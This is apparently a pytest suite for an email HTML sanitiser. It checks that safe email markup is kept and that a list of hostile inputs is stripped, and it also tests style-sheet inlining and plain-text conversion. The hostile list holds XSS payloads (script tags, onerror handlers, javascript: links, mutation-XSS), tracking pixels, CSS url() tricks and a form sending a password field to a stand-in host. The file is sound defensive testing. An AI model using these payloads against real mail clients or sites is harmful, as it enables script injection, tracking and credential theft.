import time
from contextlib import suppress
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mail.errors import RenderError
from mail.sanitise import clean_html, inline_css, text_of

HARMLESS = [
    '<p style="color:red">Hola <b>Ana</b>, ñ €</p>',
    '<a href="https://example.com/a?b=1">aquí</a>',
    '<a href="http://example.com">aquí</a>',
    '<a href="mailto:ventas@example.com">escríbanos</a>',
    '<a href="{{ access_url }}">entrar</a>',
    '<img src="https://example.com/logo.png" alt="Logo">',
    '<img src="cid:logo@example.com" alt="">',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    '<img src="{{ company.logo_url }}" alt="">',
    "<ul><li>{{ contact.name }}</li></ul>",
    '<table width="600" cellpadding="0"><tbody><tr><td bgcolor="#ffffff">x</td></tr></tbody></table>',
]

HARMFUL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<p onclick='alert(1)'>x</p>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object>",
    "<embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='cid:logo'>x</a>",
    "<a href='{{ contact.name }}'>x</a>",
    "<a href='/relative'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<img src='http://evil.example/pixel.gif'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html;base64,PHN2Zz4='>",
    "<img src='{{ contact.name }}'>",
    "<p style='background-image:url(https://evil.example/x)'>x</p>",
    "<p style='color:red;background:url(data:image/png;base64,AAAA)'>x</p>",
    "<p style='border:u\\72l(https://evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#default#VML)'>x</p>",
    "<p style='position:fixed;top:0;left:0'>x</p>",
    "<td background='https://evil.example/x'>x</td>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
]


class Elements(HTMLParser):
    """Collects what a browser could run or fetch."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str | None]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found += [(tag, name, value) for name, value in attrs] or [(tag, "", "")]


@pytest.mark.parametrize("html", HARMLESS)
def test_what_a_mail_needs_is_kept(html):
    assert clean_html(html) == html


@pytest.mark.parametrize("html", HARMFUL)
def test_what_a_browser_could_run_or_fetch_is_removed(html):
    cleaned = clean_html(html)

    for word in ("evil", "alert", "script:", "data:", "cid:", "url(", "{{", "fixed", "file:"):
        assert word not in cleaned
    assert {tag for tag, _, _ in Elements(cleaned).found} <= {"a", "p", "img", "td", "b"}
    assert not [name for _, name, _ in Elements(cleaned).found if name.startswith("on")]


@given(st.lists(st.sampled_from([*HARMFUL, *HARMLESS, "<", ">", '"', "'", "&", "{{ a }}", "</p>"])))
def test_cleaning_twice_changes_nothing(pieces):
    once = clean_html("".join(pieces))

    assert clean_html(once) == once
    assert "alert(1)" not in str(Elements(once).found)


def test_one_bad_style_costs_only_itself():
    html = '<p style="color:red;background:url(https://evil.example);padding:4px">x</p>'

    assert clean_html(html) == '<p style="color:red;padding:4px">x</p>'


def test_rules_of_a_style_sheet_move_into_the_elements():
    html = "<style>p.x {color: red} @media (max-width: 9px) {p {color: blue}}</style><p class=x>a"

    assert clean_html(inline_css(html)).strip() == '<p style="color: red">a</p>'.replace(": ", ":")


def test_style_sheets_elsewhere_are_not_fetched(serve_rudely, tmp_path):
    sheet = tmp_path / "x.css"
    sheet.write_text("p {color: red}")
    server = serve_rudely(lambda connection: connection.wait_for(b"\r\n"))
    html = (
        f'<link rel="stylesheet" href="http://127.0.0.1:{server.port}/x.css">'
        f'<link rel="stylesheet" href="file://{sheet}"><link rel="stylesheet" href="{sheet}">'
        f'<style>@import url("http://127.0.0.1:{server.port}/y.css");</style><p>a</p>'
    )

    assert "red" not in inline_css(html)
    assert server.received == b""


def test_text_version_keeps_lists_tables_and_links():
    text = text_of(
        "<h1>Hola {{ contact.name }}</h1><p>Vea <a href='{{ access_url }}'>su factura</a> o "
        "<a href='https://example.com/a(b)'>https://example.com/a(b)</a> o escriba a "
        "<a href='mailto:v@example.com'>v@example.com</a>.</p><ul><li>uno</li><li>dos</li></ul>"
        "<table><tr><td>Total</td><td>10 &euro;</td></tr></table>"
    )

    assert text == (
        "Hola {{ contact.name }}\n\n"
        "Vea su factura <{{ access_url }}> o https://example.com/a(b) o escriba a v@example.com.\n\n"
        "  * uno\n  * dos\nTotal  10 €\n"
    )


def test_text_version_is_not_indented_by_what_only_holds_the_text():
    html = '<div style="padding:16px 0 0"><div><p>Buenos días:</p><p>N.º <span>7</span>.</p></div></div>'

    assert text_of(html) == "Buenos días:\n\nN.º 7.\n"


@pytest.mark.parametrize("html", ["", "  ", "<p></p>"])
def test_text_version_of_nothing_is_an_empty_line(html):
    assert text_of(html) == "\n"


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 1_900,
        "<b>" * 60_000,
        "<p>" + "".join(f"<b title={n}>" for n in range(300)) + "<p>x" * 700,
        "x" * 200_001,
        "<table><tr><td>" * 600,
    ],
    ids=["deep", "many", "multiplying", "long", "tables"],
)
@pytest.mark.parametrize("function", [clean_html, inline_css, text_of])
def test_html_made_to_exhaust_is_refused_or_done_quickly(html, function):
    started = time.monotonic()

    with suppress(RenderError):
        function(html)

    assert time.monotonic() - started < 2


def test_elements_nested_too_deeply_are_refused():
    assert clean_html("<div>" * 150 + "x" + "</div>" * 150)
    with pytest.raises(RenderError):
        clean_html("<div>" * 151 + "x" + "</div>" * 151)
